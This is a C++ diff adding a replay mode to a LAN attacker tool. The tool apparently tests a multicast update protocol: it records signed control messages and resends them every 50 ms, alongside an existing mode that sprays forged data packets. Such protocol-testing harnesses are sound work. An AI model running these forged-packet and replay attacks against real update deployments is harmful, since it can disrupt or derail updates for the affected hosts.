@@ -2,15 +2,21 @@
 // hears and sends what any LAN host can send.
 //
 //   fleetcast-attacker spray-data --iface IF --seconds S --rate PPS [--ctrl-group G --ctrl-port P]
+//   fleetcast-attacker replay --iface IF --seconds S [--ctrl-group G --ctrl-port P]
 //
 // spray-data: waits for an UPDATE on the ctrl group (read, not verified: it has no key), then
 // sends forged DATA packets to the session's data group for S seconds at PPS packets per second:
 // the session's file ID, a valid SBN and source ESI, random symbol bytes. Prints what it sent.
+// replay: records every signed line on the ctrl group (UPDATE, ACTIVATE, STATUS, ABORT) until
+// an UPDATE of another session appears, then sends every recorded line again, as recorded,
+// every 50 ms for S seconds. Prints what it recorded and sent.
 #include <poll.h>
 
+#include <algorithm>
 #include <chrono>
 #include <cstdio>
 #include <cstdlib>
+#include <optional>
 #include <random>
 #include <string>
 #include <thread>
@@ -30,14 +36,75 @@ namespace {
 [[noreturn]] void usage() {
   std::fprintf(stderr,
                "usage: fleetcast-attacker spray-data --iface IF --seconds S --rate PPS "
-               "[--ctrl-group G] [--ctrl-port P]\n");
+               "[--ctrl-group G] [--ctrl-port P]\n"
+               "       fleetcast-attacker replay --iface IF --seconds S [--ctrl-group G] "
+               "[--ctrl-port P]\n");
   std::exit(2);
+}
+
+std::optional<p::SessionId> session_of(const p::Command& c) {
+  return std::visit(
+      [](const auto& v) -> std::optional<p::SessionId> {
+        if constexpr (requires { v.session; }) {
+          return v.session;
+        } else {
+          return std::nullopt;
+        }
+      },
+      c);
+}
+
+// Records the ctrl group until an UPDATE of a second session, then replays what it recorded.
+int replay(p::io::UdpSocket& ctrl, unsigned ifindex, const p::Endpoint& group, double seconds) {
+  std::vector<std::uint8_t> buffer(64 * p::kMaxDataDatagram);
+  std::vector<std::string> recorded;
+  std::optional<p::SessionId> first;
+  bool second = false;
+  const auto give_up = Clock::now() + std::chrono::seconds(300);
+  while (!second && Clock::now() < give_up) {
+    pollfd fd{ctrl.fd(), POLLIN, 0};
+    ::poll(&fd, 1, 100);
+    for (const auto& r : ctrl.receive(buffer, p::kMaxDataDatagram)) {
+      const std::string line(reinterpret_cast<const char*>(r.bytes.data()), r.bytes.size());
+      auto parsed = p::parse_command(line);
+      if (!parsed) continue;
+      const auto session = session_of(parsed->command);
+      if (std::holds_alternative<p::Update>(parsed->command)) {
+        if (!first) first = session;
+        if (session != first) second = true;
+      }
+      if (!second && recorded.size() < 4096 &&
+          std::find(recorded.begin(), recorded.end(), line) == recorded.end()) {
+        recorded.push_back(line);
+      }
+    }
+  }
+  if (!second) {
+    std::fprintf(stderr, "attacker: no second session announced within 300 s\n");
+    return 1;
+  }
+  std::printf("attacker: recorded %zu signed lines of session %s; replaying them every 50 ms\n",
+              recorded.size(), p::text::hex64(first->value).c_str());
+  std::fflush(stdout);
+  p::io::UdpSocket out(0, ifindex);
+  out.set_multicast(16, false);
+  std::uint64_t sent = 0;
+  const auto end = Clock::now() + std::chrono::duration_cast<Clock::duration>(
+                                      std::chrono::duration<double>(seconds));
+  while (Clock::now() < end) {
+    for (const auto& line : recorded) sent += out.send(p::as_bytes(line), group) ? 1u : 0u;
+    std::this_thread::sleep_for(std::chrono::milliseconds(50));
+  }
+  std::printf("attacker: replayed %llu lines\n", static_cast<unsigned long long>(sent));
+  return 0;
 }
 
 }  // namespace
 
 int main(int argc, char** argv) {
-  if (argc < 2 || std::string(argv[1]) != "spray-data") usage();
+  if (argc < 2) usage();
+  const std::string mode = argv[1];
+  if (mode != "spray-data" && mode != "replay") usage();
   std::string iface, ctrl_group = "ff15::f1ee:1";
   double seconds = 0, rate = 0;
   std::uint16_t ctrl_port = 4710;
@@ -57,10 +124,13 @@ int main(int argc, char** argv) {
       usage();
     }
   }
-  if (iface.empty() || !(seconds > 0 && seconds <= 600) || !(rate > 0 && rate <= 1e6)) usage();
+  if (iface.empty() || !(seconds > 0 && seconds <= 600)) usage();
+  if (mode == "spray-data" && !(rate > 0 && rate <= 1e6)) usage();
   const unsigned ifindex = p::io::interface_index(iface);
   p::io::UdpSocket ctrl(ctrl_port, ifindex);
-  ctrl.join(p::text::parse_address(ctrl_group, ctrl_port, "ctrl").value());
+  const auto group = p::text::parse_address(ctrl_group, ctrl_port, "ctrl").value();
+  ctrl.join(group);
+  if (mode == "replay") return replay(ctrl, ifindex, group, seconds);
   std::vector<std::uint8_t> buffer(64 * p::kMaxDataDatagram);
 
   // The first UPDATE heard (within 60 s).
